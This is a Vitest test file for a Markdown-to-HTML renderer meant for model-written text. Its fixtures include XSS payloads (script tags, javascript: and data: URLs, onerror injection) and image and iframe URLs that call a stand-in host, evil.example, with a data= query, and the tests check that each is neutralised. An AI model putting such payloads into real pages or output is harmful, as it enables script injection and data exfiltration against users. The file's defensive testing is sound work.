// @vitest-environment jsdom
import { expect, test } from 'vitest'
import { lexer, toHtml } from './Markdown'

const html = (text: string) => toHtml(lexer(text))

test('a_picture_becomes_a_link_because_model_text_must_load_nothing', () => {
  const said = html(
    '![secret](https://evil.example/x?data=1) <img src="https://evil.example/y"> ![a][r]\n\n[r]: //evil.example/z',
  )

  expect(said).not.toContain('<img')
  expect(said).toContain('href="https://evil.example/x?data=1"')
})

test.each([
  '[x](javascript:alert(1))',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<svg><image href="https://evil.example"/></svg>',
  '<form action="https://evil.example"><input></form>',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x"onerror="alert(1)](y)',
])('%s_does_nothing', (text) => {
  const box = document.createElement('div')
  box.innerHTML = html(text)

  expect(box.querySelector('script,iframe,svg,form,img,style,[style],[onclick],[onerror]')).toBeNull()
  for (const link of box.querySelectorAll('a'))
    expect(link.getAttribute('href') ?? '').not.toMatch(/^(javascript|data):/)
})

test('links_open_elsewhere_and_tell_nothing', () => {
  expect(html('[list](https://example.org)')).toContain('target="_blank"')
  expect(html('[list](https://example.org)')).toContain('rel="noopener noreferrer"')
})

test('a_table_keeps_the_side_its_figures_stand_on', () => {
  expect(html('| a |\n| ---: |\n| 1 |')).toContain('<td align="right">1</td>')
})

test('a_list_of_tasks_has_marks_and_no_fields', () => {
  const box = document.createElement('div')
  box.innerHTML = html('- [x] rope\n- [ ] paint')

  expect(box.querySelector('input')).toBeNull()
  expect([...box.querySelectorAll('[data-task]')].map((one) => one.getAttribute('aria-label'))).toEqual([
    'Done',
    'Open',
  ])
})
